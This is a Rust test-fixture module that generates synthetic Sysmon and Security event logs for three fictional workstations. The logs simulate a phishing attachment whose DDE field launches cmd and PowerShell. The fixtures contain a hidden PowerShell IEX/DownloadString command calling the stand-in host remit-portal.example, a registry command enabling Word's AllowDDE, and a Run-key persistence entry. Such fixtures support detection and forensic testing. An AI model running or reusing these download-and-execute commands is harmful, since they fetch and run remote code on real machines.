//! The event logs of the host scenarios in `testdata/scenarios/` (see [`crate::scenarios`]):
//! one Sysmon log per host, and the Security log of `WKS-SALES-042`.
//!
//! The events are made by the fixture builders of [`crate::evtx_events`] and
//! [`crate::evtx_security`], which write for the demo machine `WS-ALICE`; [`Host::adopt`] then
//! moves each event to its scenario host: `Computer`, the user's profile folder, logon id and
//! logon GUID, the source host name of connections and the subject of Security events.
//!
//! Record numbers are the event's position in its log, from 1. Process GUIDs are
//! [`process_guid`] of the seeds below (`0xA0..` on WKS-SALES-042, `0xB0..` on WKS-FIN-011,
//! `0xC0..` on WKS-HR-007).

use crate::evtx::{EventData, EvtxEvent, Value, filetime_from_rfc3339};
use crate::evtx_events::*;
use crate::evtx_positive::log;
use crate::evtx_security::{NewProcess, security_4688};

/// A scenario host and the user whose activity its logs record.
#[derive(Clone, Copy, Debug)]
pub struct Host {
    /// `Computer` of every event (`wks-sales-042.corp.example`).
    pub computer: &'static str,
    /// The user as Sysmon writes it (`CORP\dave`).
    pub account: &'static str,
    /// The user name (`dave`), also the profile folder's name.
    pub user: &'static str,
    /// The user's SID.
    pub sid: &'static str,
    /// The user's logon id.
    pub logon: u64,
}

/// WKS-SALES-042, dave's workstation (scenario A).
pub const SALES: Host = Host {
    computer: "wks-sales-042.corp.example",
    account: "CORP\\dave",
    user: "dave",
    sid: "S-1-5-21-4000000000-4000000001-4000000002-1107",
    logon: 0x4a7c21,
};

/// WKS-FIN-011, frank's workstation (scenario B).
pub const FIN: Host = Host {
    computer: "wks-fin-011.corp.example",
    account: "CORP\\frank",
    user: "frank",
    sid: "S-1-5-21-4000000000-4000000001-4000000002-1201",
    logon: 0x2b9e04,
};

/// WKS-HR-007, carol's workstation (scenario C).
pub const HR: Host = Host {
    computer: "wks-hr-007.corp.example",
    account: "CORP\\carol",
    user: "carol",
    sid: "S-1-5-21-4000000000-4000000001-4000000002-1305",
    logon: 0x1d3f88,
};

impl Host {
    /// `event` (made for `WS-ALICE`) as this host wrote it.
    pub fn adopt(&self, mut event: EvtxEvent<'static>) -> EvtxEvent<'static> {
        event.computer = self.computer;
        let EventData::Named(items) = &mut event.data else {
            return event;
        };
        let sid = |value: &Value| match value {
            Value::Sid(s) if s == ALICE_SID => Value::sid(self.sid),
            other => other.clone(),
        };
        for (name, value) in items.iter_mut() {
            *value = match (*name, &*value) {
                ("CurrentDirectory", Value::String(dir)) if dir.contains("alice") => {
                    Value::String(format!("C:\\Users\\{}\\", self.user))
                }
                ("LogonId", Value::HexInt64(ALICE_LOGON)) => Value::HexInt64(self.logon),
                ("LogonGuid", Value::Guid(_)) => Value::Guid(format!(
                    "{{B2796A13-4D1F-65E5-{:04X}-030000000000}}",
                    self.logon & 0xffff
                )),
                ("SourceHostname", _) => Value::str(self.computer),
                ("SubjectUserSid" | "TargetUserSid", v) => sid(v),
                ("SubjectUserName" | "TargetUserName", Value::String(n)) if n == "alice" => {
                    Value::str(self.user)
                }
                ("SubjectLogonId" | "TargetLogonId", Value::HexInt64(ALICE_LOGON)) => {
                    Value::HexInt64(self.logon)
                }
                (_, v) => v.clone(),
            };
        }
        event
    }

    /// `HKU\<sid>\<rest>`, as Sysmon names a value of this user's hive.
    pub fn hku(&self, rest: &str) -> String {
        format!("HKU\\{}\\{rest}", self.sid)
    }

    /// A process of this host's user.
    pub const fn proc(
        &self,
        image: &'static str,
        command_line: &'static str,
        pid: u32,
        guid: u64,
    ) -> Proc<'static> {
        Proc::new(image, command_line, pid, guid).as_user(self.account)
    }
}

/// The FILETIME of a `YYYY-MM-DDTHH:MM:SSZ` literal.
fn t(rfc3339: &str) -> u64 {
    filetime_from_rfc3339(rfc3339).expect("a valid time literal")
}

/// PowerShell's path.
pub const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
/// The payload dropped on WKS-SALES-042.
pub const REMITSYNC: &str = r"C:\Users\dave\AppData\Roaming\RemitSync\remitsync.exe";
/// The attachment Outlook saved on WKS-SALES-042.
pub const REMITTANCE: &str = r"C:\Users\dave\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q3ZK81PD\Remittance_May.docx";
/// Word opening the attachment (PID 4412).
pub const WORD_REMITTANCE_CMD: &str = r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\dave\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q3ZK81PD\Remittance_May.docx" /o """#;
/// The shell the DDEAUTO field started (PID 5120).
pub const CMD_REMITTANCE_CMD: &str = r"c:\windows\system32\cmd.exe /c powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://remit-portal.example/a.ps1')";
/// The PowerShell the shell started (PID 6032).
pub const POWERSHELL_CMD: &str = r"powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://remit-portal.example/a.ps1')";
/// The dropped program's start (PID 7044).
pub const REMITSYNC_CMD: &str =
    r#""C:\Users\dave\AppData\Roaming\RemitSync\remitsync.exe" /install"#;

/// The processes of WKS-SALES-042: explorer (1880), the baseline Word (2916), reg.exe (3124),
/// Outlook (3880), Word on the attachment (4412), cmd (5120), PowerShell (6032), remitsync
/// (7044), notepad (7316), Chrome (6620).
pub mod sales {
    use super::*;

    /// explorer.exe, GUID seed 0xA001.
    pub const EXPLORER_P: Proc<'static> =
        SALES.proc(EXPLORER, "C:\\Windows\\Explorer.EXE", 1880, 0xA001);
    /// WINWORD.EXE opening Q1_Forecast.docx on 2024-05-02, seed 0xA002.
    pub const WORD_FORECAST: Proc<'static> = SALES.proc(
        WINWORD,
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\dave\Documents\Q1_Forecast.docx" /o """#,
        2916,
        0xA002,
    );
    /// reg.exe setting AllowDDE, seed 0xA003.
    pub const REG: Proc<'static> = SALES.proc(
        r"C:\Windows\System32\reg.exe",
        r"reg.exe add HKCU\Software\Microsoft\Office\16.0\Word\Security /v AllowDDE /t REG_DWORD /d 2 /f",
        3124,
        0xA003,
    );
    /// OUTLOOK.EXE, seed 0xA004.
    pub const OUTLOOK_P: Proc<'static> = SALES.proc(
        OUTLOOK,
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#,
        3880,
        0xA004,
    );
    /// WINWORD.EXE opening the attachment, seed 0xA005.
    pub const WORD: Proc<'static> = SALES.proc(WINWORD, WORD_REMITTANCE_CMD, 4412, 0xA005);
    /// cmd.exe, seed 0xA006.
    pub const CMD_P: Proc<'static> = SALES.proc(CMD, CMD_REMITTANCE_CMD, 5120, 0xA006);
    /// powershell.exe, seed 0xA007.
    pub const PS: Proc<'static> = SALES.proc(POWERSHELL, POWERSHELL_CMD, 6032, 0xA007);
    /// remitsync.exe, seed 0xA008.
    pub const DROPPED: Proc<'static> = SALES.proc(REMITSYNC, REMITSYNC_CMD, 7044, 0xA008);
    /// notepad.exe, seed 0xA009.
    pub const NOTEPAD: Proc<'static> = SALES.proc(
        r"C:\Windows\System32\notepad.exe",
        r#""C:\Windows\system32\notepad.exe""#,
        7316,
        0xA009,
    );
    /// chrome.exe, seed 0xA00A.
    pub const CHROME: Proc<'static> = SALES.proc(
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#,
        6620,
        0xA00A,
    );
}

/// Every event of WKS-SALES-042's Sysmon log, records 1 to 13 (see the scenario README).
pub fn sales_sysmon_events() -> Vec<EvtxEvent<'static>> {
    use sales::*;
    let day = |time: &str| t(&format!("2024-05-06T{time}Z"));
    let run_key = SALES.hku(r"Software\Microsoft\Windows\CurrentVersion\Run\RemitSync");
    let allow = SALES.hku(r"Software\Microsoft\Office\16.0\Word\Security\AllowDDE");
    let conn = Conn {
        protocol: "tcp",
        source_ip: "192.0.2.42",
        source_port: 49712,
        destination_ip: "203.0.113.77",
        destination_hostname: "remit-portal.example",
        destination_port: 80,
    };
    let events = vec![
        sysmon_1(1, t("2024-05-02T14:03:00Z"), &WORD_FORECAST, &EXPLORER_P),
        sysmon_13(2, day("08:57:10"), &REG, &allow, "DWORD (0x00000002)"),
        sysmon_11(3, day("08:59:02"), &OUTLOOK_P, REMITTANCE),
        sysmon_1(4, day("08:59:40"), &WORD, &OUTLOOK_P),
        sysmon_1(5, day("08:59:44"), &CMD_P, &WORD),
        sysmon_1(6, day("08:59:45"), &PS, &CMD_P),
        sysmon_22(
            7,
            day("08:59:46"),
            &PS,
            "remit-portal.example",
            "203.0.113.77",
        ),
        sysmon_3(8, day("08:59:46"), &PS, &conn),
        sysmon_11(9, day("08:59:49"), &PS, REMITSYNC),
        sysmon_13(10, day("08:59:50"), &PS, &run_key, REMITSYNC),
        sysmon_1(11, day("09:00:03"), &DROPPED, &PS),
        sysmon_1(12, day("09:05:00"), &NOTEPAD, &EXPLORER_P),
        sysmon_22(
            13,
            day("09:06:00"),
            &CHROME,
            "www.example.com",
            "198.51.100.80",
        ),
    ];
    events.into_iter().map(|e| SALES.adopt(e)).collect()
}

/// WKS-SALES-042's `Microsoft-Windows-Sysmon%4Operational.evtx`.
pub fn sales_sysmon() -> Vec<u8> {
    log(sales_sysmon_events())
}

/// The Sysmon log whose one chunk is in WKS-SALES-042's memory image: records 5 (WINWORD.EXE
/// starts cmd.exe), 6 (cmd.exe starts PowerShell), 7 (its DNS query) and 8 (its connection) of
/// [`sales_sysmon_events`].
pub fn sales_memory_log() -> Vec<u8> {
    log(sales_sysmon_events()
        .into_iter()
        .filter(|e| matches!(e.record_id, 5..=8)))
}

/// WKS-SALES-042's `Security.evtx`: 4688 version 2, record 1 cmd.exe (0x1400, created by
/// WINWORD.EXE 0x113c) at 08:59:44, record 2 powershell.exe (0x1790, by cmd 0x1400) at
/// 08:59:45.
pub fn sales_security() -> Vec<u8> {
    let cmd = NewProcess {
        new_process_id: 0x1400,
        new_process_name: CMD,
        process_id: 0x113c,
        command_line: CMD_REMITTANCE_CMD,
        parent_process_name: WINWORD,
        logon: ALICE_LOGON,
    };
    let ps = NewProcess {
        new_process_id: 0x1790,
        new_process_name: POWERSHELL,
        process_id: 0x1400,
        command_line: POWERSHELL_CMD,
        parent_process_name: CMD,
        logon: ALICE_LOGON,
    };
    log([
        security_4688(1, t("2024-05-06T08:59:44Z"), 2, &cmd),
        security_4688(2, t("2024-05-06T08:59:45Z"), 2, &ps),
    ]
    .map(|e| SALES.adopt(e)))
}

/// Contoso Ledger's DDE server.
pub const CLEDGER: &str = r"C:\Program Files\Contoso\Ledger\cledger.exe";

/// WKS-FIN-011's Sysmon log: 1 ledgersetup.exe (2260, seed 0xB002) clears Excel's
/// DisableDDEServerLaunch at 2024-04-02T07:30:00Z; 2 explorer (1712, 0xB001) starts EXCEL.EXE
/// (3344, 0xB003) on GL_Balances.xlsx at 2024-04-08T08:15:00Z; 3 EXCEL.EXE starts
/// `cledger.exe /dde` (3508, 0xB004) at 08:15:03.
pub fn fin_sysmon() -> Vec<u8> {
    let explorer = FIN.proc(EXPLORER, "C:\\Windows\\Explorer.EXE", 1712, 0xB001);
    let setup = FIN.proc(
        r"C:\Program Files\Contoso\Ledger\ledgersetup.exe",
        r#""C:\Program Files\Contoso\Ledger\ledgersetup.exe" /configure"#,
        2260,
        0xB002,
    );
    let excel = FIN.proc(
        EXCEL,
        r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\frank\Documents\Ledger\GL_Balances.xlsx""#,
        3344,
        0xB003,
    );
    let cledger = FIN.proc(
        CLEDGER,
        r#""C:\Program Files\Contoso\Ledger\cledger.exe" /dde"#,
        3508,
        0xB004,
    );
    let launch = FIN.hku(r"Software\Microsoft\Office\16.0\Excel\Security\DisableDDEServerLaunch");
    log([
        sysmon_13(
            1,
            t("2024-04-02T07:30:00Z"),
            &setup,
            &launch,
            "DWORD (0x00000000)",
        ),
        sysmon_1(2, t("2024-04-08T08:15:00Z"), &excel, &explorer),
        sysmon_1(3, t("2024-04-08T08:15:03Z"), &cledger, &excel),
    ]
    .map(|e| FIN.adopt(e)))
}

/// WKS-HR-007's Sysmon log: 1 explorer (1544, seed 0xC001) starts WINWORD.EXE (4096, 0xC002)
/// on Handbook.docx at 2024-04-15T10:00:00Z; nothing else.
pub fn hr_sysmon() -> Vec<u8> {
    let explorer = HR.proc(EXPLORER, "C:\\Windows\\Explorer.EXE", 1544, 0xC001);
    let word = HR.proc(
        WINWORD,
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\carol\Documents\Handbook.docx" /o """#,
        4096,
        0xC002,
    );
    log([HR.adopt(sysmon_1(1, t("2024-04-15T10:00:00Z"), &word, &explorer))])
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every string and SID of `event`'s data.
    fn texts(event: &EvtxEvent<'_>) -> Vec<String> {
        let EventData::Named(items) = &event.data else {
            return Vec::new();
        };
        items
            .iter()
            .filter_map(|(_, value)| match value {
                Value::String(s) | Value::Sid(s) | Value::Guid(s) => Some(s.clone()),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn adopted_events_belong_to_their_host() {
        let events = sales_sysmon_events();
        assert_eq!(events.len(), 13);
        for (i, event) in events.iter().enumerate() {
            assert_eq!(event.record_id, i as u64 + 1);
            assert_eq!(event.computer, SALES.computer);
            for text in texts(event) {
                assert!(
                    !text.contains("alice") && !text.contains(ALICE_SID),
                    "record {}: {text}",
                    event.record_id
                );
            }
        }
        let ps = &events[5];
        assert!(texts(ps).contains(&process_guid(0xA007)));
        assert!(texts(ps).contains(&process_guid(0xA006)));
        assert!(texts(ps).contains(&POWERSHELL_CMD.to_owned()));
    }
}
